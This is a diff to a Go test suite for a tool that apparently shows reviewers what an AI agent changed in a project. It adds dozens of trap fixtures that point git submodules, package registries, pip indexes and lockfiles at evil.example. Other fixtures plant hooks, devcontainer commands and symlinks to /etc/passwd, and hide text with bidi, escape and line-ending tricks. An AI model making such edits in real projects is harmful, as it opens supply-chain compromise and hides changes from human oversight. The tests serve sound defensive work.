@@ -224,7 +224,94 @@ func traps() []trap {
 		file(Secret, "src/url.txt", "postgres://admin:hunter2hunter2"+"@db.example/x\n"),
 		file(Secret, "src/header.txt", "Authorization: Bearer abcdef0123456789abcdef\n"),
 		file(Secret, "src/pw.py", "password = \"correcthorsebattery9\"\n"),
+		file(Git, "sub/.git", "gitdir: ../evil\n"),
+		file(Git, "x/commondir", "../evil\n"),
+		edits(Git, "another address of a submodule", ".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = https://a.example/x\n",
+			"[submodule \"x\"]\n\tpath = x\n\turl = https://evil.example/x\n"),
+		edits(Git, "a filter among attributes", ".gitattributes", "*.go text\n", "*.go text\n*.md filter=evil\n"),
+		edits(CI, "a workflow that trusts strangers", ".github/workflows/pr.yml", "on: pull_request\n", "on: pull_request_target\n"),
+		edits(Build, "a Makefile that includes another file", "Makefile", "all:\n", "include notes.txt\nall:\n"),
+		edits(Build, "a script of npm", "package.json", "{\"scripts\": {\n\"test\": \"jest\"}}\n", "{\"scripts\": {\n\"test\": \"evil\"}}\n"),
+		edits(Build, "another registry in go.mod", "go.mod", "module x\n", "module x\nreplace a => evil.example/a v1.0.0\n"),
+		edits(Install, "another registry for one package", "package-lock.json",
+			"{\n\"resolved\": \"https://registry.npmjs.org/a.tgz\",\n\"resolved\": \"https://registry.npmjs.org/b.tgz\"\n}\n",
+			"{\n\"resolved\": \"https://registry.npmjs.org/a.tgz\",\n\"resolved\": \"https://registry.npmjs.org.evil.example/b.tgz\"\n}\n"),
+		edits(Install, "another index of pip", "requirements.txt", "a==1\n", "--extra-index-url https://evil.example/simple\na==1\n"),
+		edits(Install, "another source of Cargo", "Cargo.lock", "source = \"registry+https://github.com/rust-lang/crates.io-index\"\n",
+			"source = \"registry+https://evil.example/index\"\n"),
+		edits(Install, "another source of Bundler", "Gemfile.lock", "  remote: https://rubygems.org/\n", "  remote: https://evil.example/\n"),
+		edits(Install, "a package manager from an address", "web/package.json", "{}\n", "{\n\"packageManager\": \"yarn@https://evil.example/y.js\"}\n"),
+		gone(CI, ".github/workflows/scan.yml"),
+		gone(Hook, ".husky/pre-commit"),
+		gone(CI, "CODEOWNERS"),
+		moved(Hook, "notes.txt", ".husky/post-checkout"),
+		moved(Build, "notes.txt", "GNUmakefile"),
+		moved(CI, ".github/workflows/scan.yml", "notes.txt"),
+		moved(Name, "a.txt", "A.txt"),
+		file(Hook, ".hooks/pre-commit", "evil\n"),
+		file(Hook, "scripts/git/post-checkout", "evil\n"),
+		file(Editor, ".vscode/settings.json", "{\"python.defaultInterpreterPath\": \"./evil\"}\n"),
+		file(Editor, ".devcontainer.json", "{\"initializeCommand\": \"evil\"}\n"),
+		file(Build, "Snakefile", "evil\n"),
+		file(Build, "docs/conf.py", "evil()\n"),
+		file(Build, "rules.mk", "evil\n"),
+		file(Shell, ".env", "NODE_OPTIONS=--require ./evil\n"),
+		named("a bare repository", trap{kind: Repository, path: "vendor/bare", do: func(dir string) error {
+			for _, name := range []string{"HEAD", "config", "objects/x", "refs/x"} {
+				if err := writes("vendor/bare/"+name, "x")(dir); err != nil {
+					return err
+				}
+			}
+			return nil
+		}}),
+		named("a folder that is a link now", trap{kind: Link, path: "lib", set: writes("lib/x.go", "x\n"), do: func(dir string) error {
+			if err := os.RemoveAll(filepath.Join(dir, "lib")); err != nil {
+				return err
+			}
+			return os.Symlink("/etc", filepath.Join(dir, "lib"))
+		}}),
+		named("a link that leads elsewhere", trap{kind: Link, path: "latest", set: func(dir string) error {
+			return os.Symlink("old.txt", filepath.Join(dir, "latest"))
+		}, do: func(dir string) error {
+			if err := os.Remove(filepath.Join(dir, "latest")); err != nil {
+				return err
+			}
+			return os.Symlink("../../etc/passwd", filepath.Join(dir, "latest"))
+		}}),
+		edits(Ends, "one line among other line ends", "src/ends.go", strings.Repeat("x\n", 30), strings.Repeat("x\r\n", 15)+"evil()\r\n"+strings.Repeat("x\r\n", 15)),
+		edits(Ends, "line ends alone", "src/alone.sh", "#!/bin/sh\nx\n", "#!/bin/sh\r\nx\r\n"),
+		named("a text in UTF-16", trap{kind: Binary, path: "src/wide.js", do: writes("src/wide.js", "\xff\xfee\x00v\x00i\x00l\x00")}),
+		named("a text in Latin-1", file(Unseen, "src/latin.js", "a\xa0b\n")),
+		file(Unseen, "src/payload.js", "const s = `a\U000E0100\U000E0101`\n"),
+		file(Unseen, "src/c1.md", "a\u009b2Kb\n"),
+		file(Unseen, "src/back.md", "evil\b\b\b\bsafe\n"),
+		file(Unseen, "src/link.md", "\x1b]8;;https://evil.example\x07safe\x1b]8;;\x07\n"),
+		file(Unseen, "src/isolate.py", "x = 'user\u2066 # admin\u2069'\n"),
+		file(Unseen, "src/nul.txt", "a\x01b\n"),
+		named("a name that drives the screen", file(Name, "src/\x1b[2K.go", "x\n")),
+		named("a name that is no UTF-8", trap{kind: Name, path: "src/\xff.go", do: writes("src/\xff.go", "x\n")}),
+		named("a name with a soft hyphen", file(Name, "src/ma\u00adin.go", "x\n")),
 	}
+}
+
+// edits changes a file that is there.
+func edits(kind Kind, name, rel, before, after string) trap {
+	return trap{name: name, kind: kind, path: rel, set: writes(rel, before), do: writes(rel, after)}
+}
+
+// gone removes a file that protects the project.
+func gone(kind Kind, rel string) trap {
+	return trap{name: "no " + rel, kind: kind, path: rel, set: writes(rel, "x\n"), do: func(dir string) error { return os.Remove(filepath.Join(dir, rel)) }}
+}
+
+// moved gives a file another name.
+func moved(kind Kind, from, to string) trap {
+	return trap{name: from + " becomes " + to, kind: kind, path: to, set: writes(from, strings.Repeat("a line of a file\n", 20)), do: func(dir string) error {
+		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, to)), 0o755); err != nil {
+			return err
+		}
+		return os.Rename(filepath.Join(dir, from), filepath.Join(dir, to))
+	}}
 }
 
 // reviewOf runs an agent that does something in a small project with many harmless
@@ -275,7 +362,7 @@ func reviewOf(t testing.TB, set, do func(dir string) error, harmless int) *Revie
 // of an ordinary terminal names it, with what it is.
 func TestAttackNoTrapIsBelowTheFold(t *testing.T) {
 	all := traps()
-	if len(all) < 130 {
+	if len(all) < 180 {
 		t.Fatalf("only %d traps", len(all))
 	}
 	for _, c := range all {
@@ -307,14 +394,21 @@ func TestAttackNoTrapIsBelowTheFold(t *testing.T) {
 // Attack: so many traps that they are more than lines. Every kind is counted on the
 // first screen, and no file is left out of the counts.
 func TestAttackAFloodOfTrapsIsCounted(t *testing.T) {
-	r := reviewOf(t, nil, func(dir string) error {
+	r := reviewOf(t, func(dir string) error {
+		for _, c := range traps() {
+			if c.set != nil {
+				_ = c.set(dir)
+			}
+		}
+		return nil
+	}, func(dir string) error {
 		for i := range 500 {
 			if err := writes(fmt.Sprintf("p%03d/Makefile", i), "all:\n")(dir); err != nil {
 				return err
 			}
 		}
 		for _, c := range traps() {
-			if c.set == nil && c.kind != NotShown {
+			if c.kind != NotShown {
 				_ = c.do(dir) // some are in another's place
 			}
 		}
